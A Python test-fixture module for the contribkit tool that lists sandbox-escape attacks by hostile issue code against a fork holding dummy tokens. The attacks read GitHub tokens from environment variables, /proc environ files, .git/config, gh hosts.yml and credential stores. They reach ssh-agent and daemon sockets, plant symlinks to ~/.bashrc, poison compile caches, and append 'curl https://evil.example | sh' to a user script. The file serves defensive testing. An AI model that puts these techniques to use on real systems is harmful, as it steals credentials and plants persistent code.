"""The attacks of a hostile issue author or fork on the code contribkit runs, as a table.

An :class:`Attack` is issue code (``body``) plus what shows that it worked (``worked``). The
scene (:class:`Scene`) is a real scratch fork with a dummy token in every place a real one
lives: the environment (``GH_TOKEN``, ``GITHUB_TOKEN``), the fork's ``.git/config`` (a token
in the remote URL and an ``http.extraheader``), gh's ``hosts.yml`` in the home folder and
outside it (``GH_CONFIG_DIR``, ``XDG_CONFIG_HOME``), git credential stores in and outside the
home folder, an ssh agent socket (``SSH_AUTH_SOCK``) and a root-like daemon socket outside
home. The body sees the scene's paths as ``P`` and reports what it got with ``grab(text)``:
the text goes out reversed, past redaction by value, in the verdict line, which every path
prints somewhere (a run record, a debug log, the verdict gate's message, the terminal).

``tests/test_attacks.py`` runs each attack through each of its ``paths`` (the commands that run
issue code) and checks that it failed, and runs it plainly (``python body.py`` with the
user's environment, no contribkit) to check that it works there: a passing test cannot come
from a broken attack. A new case is one entry in :data:`ATTACKS`.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path

from contribkit.repro.plan import runtime_source
from contribkit.testgen.fromrepro import CODE_END, CODE_START
from tests.conftest import git, make_fork

# Every path that runs issue code: `run`, `debug --run`, `debug --run --preset ablation`,
# `test --from-repro`'s verdict gate, and the repro script run directly.
PATHS = ("run", "debug", "ablation", "from-repro", "script")
BASHRC = "# the user's shell starts here\n"
DEBUG_SCRIPT = "#!/bin/bash\necho the debug script\n"

# What every body starts with: the scene's paths and the one way to report a find.
PRELUDE = """\
import glob, hashlib, json, os, socket, subprocess, sys
P = json.loads(PATHS_JSON)
found = []

def grab(text):
    found.append(str(text)[::-1])

def attempt(fn, *args):
    try:
        fn(*args)
    except Exception as exc:
        print("attempt blocked:", type(exc).__name__, exc)

def read(path):
    with open(path) as fh:
        grab(fh.read())

def send(path):
    with socket.socket(socket.AF_UNIX) as conn:
        conn.settimeout(3)
        conn.connect(path)
        conn.sendall(b"from issue code")
        conn.recv(10)  # the server's ack: what it got is recorded before the code goes on
"""
# The attack's report is the last line: it ends the process at once, past the runtime's own
# os._exit wrapper (posix._exit), so that no verdict of the runtime follows it.
ENDING = """
print("contribkit-verdict: NOT_REPRODUCED found: " + " | ".join(found), flush=True)
import posix
posix._exit(0)
"""


@dataclass
class Scene:
    """A scratch fork and a user whose secrets are everywhere a real token lives."""

    root: Path  # the test's folder
    fork: Path
    home: Path
    env: dict[str, str]  # the user's environment: tokens, sockets, config folders
    secrets: dict[str, str]  # where -> the dummy secret kept there
    paths: dict[str, str]  # what the body sees as P (with path_lists)
    path_lists: dict[str, list[str]]
    sockets: dict[str, list[bytes]] = field(default_factory=dict)  # name -> what each got

    @property
    def repro(self) -> Path:
        return self.fork / "repros/attack"

    def leaked(self, text: str) -> list[str]:
        """The places whose secret ``text`` holds, as is or reversed."""
        return [w for w, s in self.secrets.items() if s in text or s[::-1] in text]


def make_scene(root: Path) -> Scene:
    fork = make_fork(root / "pytorch")
    home = root / "home"
    outside = root / "elsewhere"  # config and credentials kept outside home
    secrets = {
        "env GH_TOKEN": "ghp_" + "E" * 36,
        "env GITHUB_TOKEN": "ghp_" + "G" * 36,
        "remote URL": "ghp_" + "R" * 36,
        "http.extraheader": "ghp_" + "X" * 36,
        "hosts.yml in home": "gho_" + "H" * 36,
        "hosts.yml in GH_CONFIG_DIR": "gho_" + "C" * 36,
        "hosts.yml in XDG_CONFIG_HOME": "gho_" + "D" * 36,
        "credential store": "ghp_" + "S" * 36,
        "~/.git-credentials": "ghp_" + "K" * 36,
        "ssh agent path": str(outside / "agent.sock"),
    }
    files = {
        home
        / ".config/gh/hosts.yml": f"github.com:\n  oauth_token: {secrets['hosts.yml in home']}\n",
        outside
        / "gh/hosts.yml": f"github.com:\n  oauth_token: {secrets['hosts.yml in GH_CONFIG_DIR']}\n",
        outside
        / "xdg/gh/hosts.yml": f"github.com:\n  oauth_token: {secrets['hosts.yml in XDG_CONFIG_HOME']}\n",
        outside / "store": f"https://me:{secrets['credential store']}@github.com\n",
        home / ".git-credentials": f"https://me:{secrets['~/.git-credentials']}@github.com\n",
        home / ".bashrc": BASHRC,
    }
    for path, text in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    url = f"https://x-access-token:{secrets['remote URL']}@github.com/contributor/pytorch.git"
    git("remote", "set-url", "origin", url, cwd=fork)
    header = f"AUTHORIZATION: basic {secrets['http.extraheader']}"
    git("config", "http.https://github.com/.extraheader", header, cwd=fork)
    git("config", "credential.helper", f"store --file {outside / 'store'}", cwd=fork)
    (fork / "repros").mkdir()
    (fork / ".contribkit/runs/earlier").mkdir(parents=True)  # a run folder the code can find
    env = {
        "HOME": str(home),
        "GH_TOKEN": secrets["env GH_TOKEN"],
        "GITHUB_TOKEN": secrets["env GITHUB_TOKEN"],
        "GH_CONFIG_DIR": str(outside / "gh"),
        "XDG_CONFIG_HOME": str(outside / "xdg"),
        "SSH_AUTH_SOCK": secrets["ssh agent path"],
        "DBUS_SESSION_BUS_ADDRESS": f"unix:path={outside / 'bus.sock'}",
        "TORCHINDUCTOR_CACHE_DIR": str(outside / "user-inductor-cache"),
    }
    paths = {
        "fork": str(fork),
        "home": str(home),
        "bashrc": str(home / ".bashrc"),
        "docker_sock": str(outside / "docker.sock"),
        "user_cache": str(outside / "user-inductor-cache"),
        "marker": f"contribkit-attack-{os.getpid()}-{root.name}",
    }
    path_lists = {
        "hosts": [
            str(home / ".config/gh/hosts.yml"),
            str(outside / "gh/hosts.yml"),
            str(outside / "xdg/gh/hosts.yml"),
        ],
        "stores": [str(outside / "store"), str(home / ".git-credentials")],
    }
    return Scene(root, fork, home, env, secrets, paths, path_lists)


@contextmanager
def listening(scene: Scene) -> Iterator[None]:
    """Unix sockets outside the fork, as an ssh agent and a root daemon keep them."""
    servers = []
    stop = threading.Event()
    for name, path in (
        ("agent", scene.secrets["ssh agent path"]),
        ("docker", scene.paths["docker_sock"]),
    ):
        server = socket.socket(socket.AF_UNIX)
        server.bind(path)
        server.listen()
        server.settimeout(0.2)
        got: list[bytes] = []
        scene.sockets[name] = got
        servers.append((server, got))

    def serve(server: socket.socket, got: list[bytes]) -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                got.append(conn.recv(100) or b"(connected)")
                with suppress(OSError):
                    conn.sendall(b"ack")

    threads = [threading.Thread(target=serve, args=pair, daemon=True) for pair in servers]
    for thread in threads:
        thread.start()
    try:
        yield
    finally:
        stop.set()
        for thread in threads:
            thread.join(timeout=5)
        for server, _ in servers:
            server.close()


def body_source(scene: Scene, body: str) -> str:
    seen = json.dumps({**scene.paths, **scene.path_lists})
    return PRELUDE.replace("PATHS_JSON", repr(seen)) + body + ENDING


def write_repro(scene: Scene, folder: Path, body: str) -> Path:
    """A repro folder as `contribkit repro` writes it (runtime, markers, meta.json) around
    ``body``."""
    folder.mkdir(parents=True, exist_ok=True)
    script = "\n".join(
        [
            "# ---- contribkit runtime: the verdict contract (do not edit) ----",
            runtime_source(),
            "# ---- end of the contribkit runtime ----",
            "_repro = Repro(issue='attack#1', signature=None, default_device='cpu')",
            "DEVICE = _repro.start()",
            f"{CODE_START}the attack) ----",
            body_source(scene, body),
            CODE_END,
            "_repro.finish()",
            "",
        ]
    )
    (folder / "repro.py").write_text(script)
    meta = {
        "kind": "crash",
        "signature_parts": {"exc_type": "RuntimeError", "message": "boom"},
        "devices_needed": [],
    }
    (folder / "meta.json").write_text(json.dumps(meta))
    return folder / "repro.py"


# -- what shows that an attack worked --------------------------------------------------------
Worked = Callable[[Scene, str], list[str]]


def secrets_seen(scene: Scene, text: str) -> list[str]:
    return [f"read the secret in {where}" for where in scene.leaked(text)]


def socket_reached(name: str) -> Worked:
    return lambda scene, _text: [f"reached the {name} socket"] if scene.sockets.get(name) else []


def changed(rel: str, before: str) -> Worked:
    def check(scene: Scene, _text: str) -> list[str]:
        path = scene.root / rel
        now = path.read_text() if path.exists() else ""
        return [f"wrote {path}"] if now != before else []

    return check


def survivors(scene: Scene, _text: str) -> list[str]:
    """Processes the code started that are still alive (and are ended here)."""
    marker = scene.paths["marker"].encode()
    alive = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as fh:
                if marker in fh.read():
                    alive.append(int(name))
        except OSError:
            continue
    for pid in alive:
        with suppress(OSError):
            os.kill(pid, 9)
    return [f"process {pid} outlived the command" for pid in alive]


def poisoned(scene: Scene, text: str) -> list[str]:
    found = [f"a second leg saw the first's cache ({w})" for w in ("POISON",) if "NOSIOP" in text]
    user_cache = Path(scene.paths["user_cache"])
    if user_cache.is_dir() and any(user_cache.iterdir()):
        found.append(f"wrote into the user's compile cache {user_cache}")
    return found


def either(*checks: Worked) -> Worked:
    return lambda scene, text: [w for check in checks for w in check(scene, text)]


# -- the table ---------------------------------------------------------------------------------
@dataclass(frozen=True)
class Attack:
    name: str
    body: str  # issue code, after PRELUDE
    worked: Worked
    paths: tuple[str, ...] = PATHS  # the commands it is tried through
    # Holds with the sandbox off too (run.sandbox = none, or no bwrap): it does not depend on
    # what bwrap hides.
    without_sandbox: bool = False
    second_leg: bool = False  # `run` runs a second repro after this one (same body)
    # After the plain run: what contribkit used to do next (write a log with plain open()),
    # so that the self-check shows a planted link works.
    plain_follow_up: Callable[[Scene], None] | None = None


def _stem(rel: str) -> str:  # contribkit.run.runner.artefact_stem, as an attacker reads it
    import re

    slug = re.sub(r"[^A-Za-z0-9_.-]+", "_", rel).strip("_")[-100:]
    return f"{slug}-{hashlib.sha256(rel.encode()).hexdigest()[:10]}"


PLANT_RUN_LINKS = """
def plant_run_links():
    for folder in glob.glob(os.path.join(P["fork"], ".contribkit/runs/*/")):
        for rel in ("repros/attack2/repro.py",):
            slug = rel.replace("/", "_")
            stem = slug + "-" + hashlib.sha256(rel.encode()).hexdigest()[:10]
            for device in ("cpu", "cuda"):
                for suffix in ("log", "xml"):
                    os.symlink(P["bashrc"], os.path.join(folder, "%s.%s.1.%s" % (stem, device, suffix)))
    grab("planted")
attempt(plant_run_links)
"""

PLANT_DEBUG_LINKS = """
def plant_debug_links():
    here = os.path.dirname(os.path.abspath(sys.argv[0]))
    for backend in ("aot_eager", "aot_eager_decomp_partition", "inductor"):
        for suffix in (".log", ".torch_logs.txt"):
            link = os.path.join(here, "debug_issue." + backend + suffix)
            if not os.path.lexists(link):
                os.symlink(P["bashrc"], link)
attempt(plant_debug_links)
"""


def follow_run_link(scene: Scene) -> None:
    log = scene.fork / ".contribkit/runs/earlier" / f"{_stem('repros/attack2/repro.py')}.cpu.1.log"
    with open(log, "wb") as fh:  # what run_child did before: open("wb")
        fh.write(b"next leg's log\n")


def follow_debug_link(scene: Scene) -> None:
    with open(scene.repro / "debug_issue.aot_eager.log", "wb") as fh:
        fh.write(b"next backend's log\n")


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "token in the environment",
        "grab(os.environ.get('GH_TOKEN')); grab(os.environ.get('GITHUB_TOKEN'))\n",
        secrets_seen,
        without_sandbox=True,
    ),
    Attack(
        "token in a parent's /proc/PID/environ",
        """
def environs():
    for path in [f"/proc/{os.getppid()}/environ", *glob.glob("/proc/[0-9]*/environ")]:
        try:
            with open(path, "rb") as fh:
                grab(fh.read().decode(errors="replace"))
        except OSError:
            pass
environs()
""",
        secrets_seen,
        paths=("from-repro", "run", "debug", "script"),
    ),
    Attack(
        "token in contribkit's own /proc/PID/environ",
        """
def parent_environ():
    with open(f"/proc/{os.getppid()}/environ", "rb") as fh:
        grab(fh.read().decode(errors="replace"))
attempt(parent_environ)
""",
        secrets_seen,
        paths=("from-repro", "run", "script"),
        without_sandbox=True,
    ),
    Attack(
        "token in the fork's .git/config",
        "attempt(read, os.path.join(P['fork'], '.git/config'))\n",
        secrets_seen,
        paths=("run", "script", "debug", "from-repro"),
    ),
    Attack(
        "gh's hosts.yml in and outside home",
        "for path in [*P['hosts'], os.path.join(os.environ.get('GH_CONFIG_DIR', '/nonexistent'), 'hosts.yml')]:\n"
        "    attempt(read, path)\n",
        secrets_seen,
        paths=("run", "script"),
    ),
    Attack(
        "git credential store files",
        "for path in P['stores']:\n    attempt(read, path)\n",
        secrets_seen,
        paths=("run", "script"),
    ),
    Attack(
        "a unix socket outside (a root daemon's)",
        "attempt(send, P['docker_sock'])\n",
        socket_reached("docker"),
        paths=("run", "script", "debug"),
    ),
    Attack(
        "SSH_AUTH_SOCK passed to the code",
        "grab(os.environ.get('SSH_AUTH_SOCK', ''))\n"
        "attempt(send, os.environ.get('SSH_AUTH_SOCK', '/nonexistent'))\n",
        either(secrets_seen, socket_reached("agent")),
        paths=("run", "script", "from-repro"),
        without_sandbox=True,
    ),
    Attack(
        "a link planted in run's log folder, to ~/.bashrc",
        PLANT_RUN_LINKS,
        changed("home/.bashrc", BASHRC),
        paths=("run",),
        without_sandbox=True,
        second_leg=True,
        plain_follow_up=follow_run_link,
    ),
    Attack(
        "a link planted for the next ablation backend's log, to ~/.bashrc",
        PLANT_DEBUG_LINKS,
        changed("home/.bashrc", BASHRC),
        paths=("ablation",),
        without_sandbox=True,
        plain_follow_up=follow_debug_link,
    ),
    Attack(
        "appending to debug_issue.sh, the script the user runs",
        """
def append():
    here = os.path.dirname(os.path.abspath(sys.argv[0]))
    with open(os.path.join(here, "debug_issue.sh"), "a") as fh:
        fh.write("curl https://evil.example | sh\\n")
attempt(append)
""",
        changed("pytorch/repros/attack/debug_issue.sh", DEBUG_SCRIPT),
        paths=("debug", "ablation"),
    ),
    Attack(
        "poisoning the compile cache of later legs and of the user",
        """
def poison():
    for name in ("TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR"):
        folder = os.environ.get(name)
        if not folder:
            continue
        mark = os.path.join(folder, "poisoned.py")
        if os.path.exists(mark):
            grab("POISON")
        os.makedirs(folder, exist_ok=True)
        with open(mark, "w") as fh:
            fh.write("import os; os.system('echo owned')\\n")
attempt(poison)
""",
        poisoned,
        paths=("run",),
        second_leg=True,
        without_sandbox=True,
    ),
    Attack(
        "a daemon that outlives the command",
        """
def daemon():
    code = "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    time.sleep(120)\\n"
    subprocess.Popen(
        [sys.executable, "-c", code, P["marker"]],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    import time
    time.sleep(0.5)
attempt(daemon)
""",
        survivors,
        without_sandbox=True,
    ),
)


def by_name(name: str) -> Attack:
    return next(a for a in ATTACKS if a.name == name)


def cases(with_sandbox: bool) -> list[tuple[Attack, str]]:
    return [
        (attack, path)
        for attack in ATTACKS
        for path in attack.paths
        if with_sandbox or attack.without_sandbox
    ]


def run_plainly(scene: Scene, attack: Attack) -> str:
    """The attack's body run as plain Python with the user's environment: no contribkit."""
    body = scene.repro / "body.py"  # beside repro.py, where the code lives
    body.write_text(body_source(scene, attack.body))
    runs = 2 if attack.second_leg else 1
    out = ""
    for _ in range(runs):
        proc = subprocess.run(  # under a shell that holds the environment, as a user's does
            ["/bin/sh", "-c", '"$0" "$1"; exit $?', sys.executable, str(body)],
            cwd=scene.repro,
            env={**os.environ, **scene.env},
            capture_output=True,
            text=True,
            timeout=120,
        )
        out += proc.stdout + proc.stderr
    return out


# -- a repository's own .contribkit.toml ---------------------------------------------------------
# Each key a committed file could use to weaken safety, with a value that would: ignored (one
# line each) until the user trusts the file, honoured after.
CONFIG_ATTACKS: dict[str, str] = {
    "run.sandbox": '"none"',
    "run.memory_limit_mb": "999999",
    "run.process_limit": "0",
    "run.file_size_limit_mb": "999999",
    "repros_dir": '"../outside"',
    "cache_dir": '"/tmp/shared-cache"',
    "hooks.disable": '["CK105", "no-scratch-files"]',
}
